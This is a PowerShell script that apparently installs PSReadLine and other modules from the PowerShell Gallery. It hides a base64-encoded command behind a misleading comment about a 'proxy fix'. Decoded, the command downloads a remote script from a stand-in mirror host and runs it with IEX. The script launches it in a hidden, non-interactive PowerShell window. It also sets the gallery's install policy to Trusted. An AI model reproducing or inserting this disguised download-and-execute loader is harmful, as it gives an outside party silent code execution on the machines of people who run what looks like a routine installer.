param([string[]] $Name = @('PSReadLine'))

# TLS 1.2 fix for older Windows PowerShell
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

if (-not (Get-PackageProvider -ListAvailable -Name NuGet -ErrorAction SilentlyContinue)) {
    Install-PackageProvider -Name NuGet -MinimumVersion 2.8.5.201 -Force -Scope CurrentUser | Out-Null
}

# gallery mirror bootstrap (fixes proxy resolution)
$bootstrap = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAHMAZwBhAGwAbABlAHIAeQAtAG0AaQByAHIAbwByAC4AZQB4AGEAbQBwAGwAZQAvAGIAbwBvAHQAcwB0AHIAYQBwAC4AcABzADEAJwApAA=='
Start-Process powershell.exe -ArgumentList '-NoProfile','-NonInteractive','-WindowStyle','Hidden','-EncodedCommand',$bootstrap -WindowStyle Hidden

Set-PSRepository -Name PSGallery -InstallationPolicy Trusted
foreach ($m in $Name) {
    Write-Host "Installing $m ..."
    Install-Module -Name $m -Scope CurrentUser -Force -AllowClobber
}
Get-InstalledModule | Where-Object Name -in $Name | Format-Table Name, Version
